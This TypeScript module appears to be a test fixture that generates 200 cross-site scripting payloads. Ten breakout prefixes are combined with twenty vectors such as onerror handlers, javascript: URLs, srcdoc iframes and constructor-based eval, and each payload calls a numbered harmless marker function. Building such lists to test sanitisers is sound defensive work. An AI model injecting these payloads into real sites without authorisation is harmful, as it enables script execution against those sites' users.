/** What the payloads call if they execute. */
export const marker = 'xss';

/** Ways out of the place in which a text could have been put. */
const breakouts = ['', '">', "'>", '--><', '</textarea>', '</title>', '</script>', ']]>', '${', '\\"};'] as const;

const vectors = [
  (call: string) => `<script>${call}</script>`,
  (call: string) => `<img src=x onerror=${call}>`,
  (call: string) => `<svg onload=${call}>`,
  (call: string) => `<svg><script>${call}</script></svg>`,
  (call: string) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call: string) => `<details open ontoggle=${call}>`,
  (call: string) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (call: string) => `<iframe src="javascript:parent.${call}"></iframe>`,
  (call: string) => `<object data="javascript:${call}"></object>`,
  (call: string) => `<a href="javascript:${call}" autofocus onfocus=${call}>x</a>`,
  (call: string) => `<input autofocus onfocus=${call}>`,
  (call: string) => `<video><source onerror=${call}></video>`,
  (call: string) => `<audio src=x onerror=${call}>`,
  (call: string) => `<body onpageshow=${call}>`,
  (call: string) => `<math><mtext><img src=x onerror=${call}></mtext></math>`,
  (call: string) => `<style>@import "javascript:${call}";</style><link rel=stylesheet href="javascript:${call}">`,
  (call: string) => `<base href="javascript:/a/-${call}//">`,
  (call: string) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  (call: string) => `javascript:${call}//`,
  (call: string) => `constructor.constructor("${call}")()`,
] as const;

/** Two hundred payloads: every vector after every breakout. Each says its number. */
export const payloads: readonly string[] = breakouts.flatMap((breakout, place) =>
  vectors.map((vector, at) => `${breakout}${vector(`${marker}(${place * vectors.length + at})`)}`),
);
